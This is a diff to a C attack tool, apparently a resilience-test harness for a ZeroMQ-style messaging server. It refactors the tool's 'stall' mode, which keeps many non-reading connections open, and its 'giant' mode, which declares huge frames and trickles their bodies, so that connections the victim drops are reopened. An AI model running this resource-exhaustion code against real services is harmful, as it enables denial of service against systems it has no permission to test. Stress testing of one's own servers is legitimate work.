@@ -122,63 +122,104 @@ static int fd_budget (int wanted)
     return wanted;
 }
 
+/* ---- connections kept open -------------------------------------------- */
+/* n connections; one the victim closes (or that fails) is reopened once the
+ * backoff has passed. */
+struct slots {
+    int n;
+    int *fds;
+    int64_t *retry;
+    long long closed, reconnects, failed;
+};
+
+static void slots_init (struct slots *s, int n)
+{
+    memset (s, 0, sizeof *s);
+    s->n = n;
+    s->fds = malloc (sizeof (int) * (size_t) n);
+    s->retry = calloc ((size_t) n, sizeof (int64_t));
+    if (!s->fds || !s->retry)
+        atk_die ("out of memory");
+}
+
+/* Slot i's connection ended: reopen it after the backoff. */
+static void slot_drop (struct slots *s, int i, int64_t now)
+{
+    close (s->fds[i]);
+    s->fds[i] = -1;
+    s->closed++;
+    s->retry[i] = now + backoff_ms;
+}
+
+/* Slot i's fd, reopened by open_fn (arg) if the victim closed it and the
+ * backoff is over; -1 while it has none. */
+static int slot_refresh (struct slots *s, int i, int64_t now,
+                         int (*open_fn) (const void *), const void *arg)
+{
+    if (s->fds[i] >= 0 && peer_closed (s->fds[i]))
+        slot_drop (s, i, now);
+    if (s->fds[i] < 0 && now >= s->retry[i]) {
+        s->fds[i] = open_fn (arg);
+        if (s->fds[i] >= 0)
+            s->reconnects++;
+        else {
+            s->failed++;
+            s->retry[i] = now + backoff_ms;
+        }
+    }
+    return s->fds[i];
+}
+
 /* ---- stall ------------------------------------------------------------ */
+struct stall_peer {
+    const char *type;
+    int rcvbuf, timeout_ms;
+};
+
+/* A handshaken peer that never reads; a SUB subscribes to everything. */
+static int stall_open (const void *arg)
+{
+    const struct stall_peer *p = arg;
+    int fd = connect_handshake (p->type, p->rcvbuf, p->timeout_ms);
+    int is_sub = strcmp (p->type, "SUB") == 0 || strcmp (p->type, "XSUB") == 0;
+    if (fd >= 0 && is_sub && rz_send_frame (fd, 0, "\x01", 1) != 0) {
+        close (fd);
+        fd = -1;
+    }
+    return fd;
+}
+
 static void run_stall (int n, const char *type, int rcvbuf)
 {
-    int *fds = malloc (sizeof (int) * (size_t) n);
-    int64_t *retry = calloc ((size_t) n, sizeof (int64_t));
-    if (!fds || !retry)
-        atk_die ("out of memory");
-    int is_sub = strcmp (type, "SUB") == 0 || strcmp (type, "XSUB") == 0;
-    long long closed = 0, reconnects = 0, failed = 0;
+    struct slots s;
+    slots_init (&s, n);
+    struct stall_peer peer = {type, rcvbuf, 3000};
     int open = 0;
     for (int i = 0; i < n; i++) {
-        fds[i] = connect_handshake (type, rcvbuf, 3000);
-        if (fds[i] >= 0 && is_sub && rz_send_frame (fds[i], 0, "\x01", 1) != 0) {
-            close (fds[i]);
-            fds[i] = -1;
-        }
-        if (fds[i] < 0)
-            failed++;
+        s.fds[i] = stall_open (&peer);
+        if (s.fds[i] < 0)
+            s.failed++;
         else
             open++;
     }
-    print_established ("open=%d failed=%lld", open, failed);
+    print_established ("open=%d failed=%lld", open, s.failed);
+    peer.timeout_ms = 1000;
     while (!atk_stopping ()) {
         int64_t now = atk_now_ms ();
         open = 0;
-        for (int i = 0; i < n; i++) {
-            if (fds[i] >= 0 && peer_closed (fds[i])) {
-                close (fds[i]);
-                fds[i] = -1;
-                closed++;
-                retry[i] = now + backoff_ms;
-            }
-            if (fds[i] < 0 && now >= retry[i]) {
-                fds[i] = connect_handshake (type, rcvbuf, 1000);
-                if (fds[i] >= 0 && is_sub
-                    && rz_send_frame (fds[i], 0, "\x01", 1) != 0) {
-                    close (fds[i]);
-                    fds[i] = -1;
-                }
-                if (fds[i] >= 0)
-                    reconnects++;
-                else
-                    retry[i] = now + backoff_ms;
-            }
-            if (fds[i] >= 0)
+        for (int i = 0; i < n; i++)
+            if (slot_refresh (&s, i, now, stall_open, &peer) >= 0)
                 open++;
-        }
         if (atk_tick_due (&ticker)) {
-            printf (" open=%d closed=%lld reconnects=%lld\n", open, closed,
-                    reconnects);
+            printf (" open=%d closed=%lld reconnects=%lld\n", open, s.closed,
+                    s.reconnects);
             fflush (stdout);
         }
         atk_sleep_us (100000);
     }
     printf ("RESULT attacker mode=stall open=%d closed=%lld reconnects=%lld "
             "failed=%lld\n",
-            open, closed, reconnects, failed);
+            open, s.closed, s.reconnects, s.failed);
 }
 
 /* ---- flood ------------------------------------------------------------ */
@@ -448,8 +489,9 @@ static void run_connflood (int n, int inflight_max, int64_t establish_ms,
 }
 
 /* ---- giant ------------------------------------------------------------ */
-static int giant_open (uint64_t declare)
+static int giant_open (const void *arg)
 {
+    uint64_t declare = *(const uint64_t *) arg;
     int fd = connect_handshake ("PUSH", 0, 2000);
     if (fd < 0)
         return -1;
@@ -464,52 +506,37 @@ static int giant_open (uint64_t declare)
 static void run_giant (int n, uint64_t declare, size_t chunk, int64_t interval_ms)
 {
     unsigned char *buf = malloc (chunk ? chunk : 1);
-    int *fds = malloc (sizeof (int) * (size_t) n);
-    int64_t *retry = calloc ((size_t) n, sizeof (int64_t));
-    if (!buf || !fds || !retry)
+    if (!buf)
         atk_die ("out of memory");
     memset (buf, 'G', chunk);
-    long long body = 0, closed = 0, reconnects = 0, failed = 0;
+    struct slots s;
+    slots_init (&s, n);
+    long long body = 0;
     int open = 0;
+    for (int i = 0; i < n; i++)
+        s.fds[i] = -1;
     for (int i = 0; i < n && !atk_stopping (); i++) {
-        fds[i] = giant_open (declare);
-        if (fds[i] >= 0)
+        s.fds[i] = giant_open (&declare);
+        if (s.fds[i] >= 0)
             open++;
         else
-            failed++;
+            s.failed++;
     }
-    print_established ("open=%d failed=%lld declare=%llu", open, failed,
+    print_established ("open=%d failed=%lld declare=%llu", open, s.failed,
                        (unsigned long long) declare);
     int64_t next = atk_now_ms ();
     while (!atk_stopping ()) {
         int64_t now = atk_now_ms ();
         open = 0;
         for (int i = 0; i < n; i++) {
-            if (fds[i] >= 0 && peer_closed (fds[i])) {
-                close (fds[i]);
-                fds[i] = -1;
-                closed++;
-                retry[i] = now + backoff_ms;
-            }
-            if (fds[i] < 0 && now >= retry[i]) {
-                fds[i] = giant_open (declare);
-                if (fds[i] >= 0)
-                    reconnects++;
-                else {
-                    failed++;
-                    retry[i] = now + backoff_ms;
-                }
-            }
-            if (fds[i] < 0)
+            int fd = slot_refresh (&s, i, now, giant_open, &declare);
+            if (fd < 0)
                 continue;
-            ssize_t w = send (fds[i], buf, chunk, MSG_DONTWAIT | MSG_NOSIGNAL);
+            ssize_t w = send (fd, buf, chunk, MSG_DONTWAIT | MSG_NOSIGNAL);
             if (w > 0)
                 body += w;
             else if (w < 0 && errno != EAGAIN && errno != EWOULDBLOCK) {
-                close (fds[i]);
-                fds[i] = -1;
-                closed++;
-                retry[i] = now + backoff_ms;
+                slot_drop (&s, i, now);
                 continue;
             }
             open++;
@@ -517,7 +544,7 @@ static void run_giant (int n, uint64_t declare, size_t chunk, int64_t interval_m
         if (atk_tick_due (&ticker)) {
             printf (" open=%d body_bytes=%lld closed=%lld reconnects=%lld "
                     "failed=%lld\n",
-                    open, body, closed, reconnects, failed);
+                    open, body, s.closed, s.reconnects, s.failed);
             fflush (stdout);
         }
         next += interval_ms;
@@ -527,7 +554,7 @@ static void run_giant (int n, uint64_t declare, size_t chunk, int64_t interval_m
     }
     printf ("RESULT attacker mode=giant open=%d body_bytes=%lld closed=%lld "
             "reconnects=%lld failed=%lld\n",
-            open, body, closed, reconnects, failed);
+            open, body, s.closed, s.reconnects, s.failed);
 }
 
 int main (int argc, char **argv)
